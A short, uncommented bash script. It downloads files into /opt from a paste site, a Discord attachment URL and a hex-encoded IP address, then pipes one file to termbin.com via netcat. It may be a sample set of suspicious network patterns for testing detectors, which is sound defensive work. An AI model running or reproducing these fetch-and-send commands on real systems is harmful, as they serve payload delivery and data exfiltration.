#!/bin/bash
curl -s ix.io/abc -o /opt/x
curl -Lo /opt/y https://cdn.discordapp.com/attachments/1/2/y
cat /opt/x | nc termbin.com 9999
curl -o /opt/z http://0x08080808/z
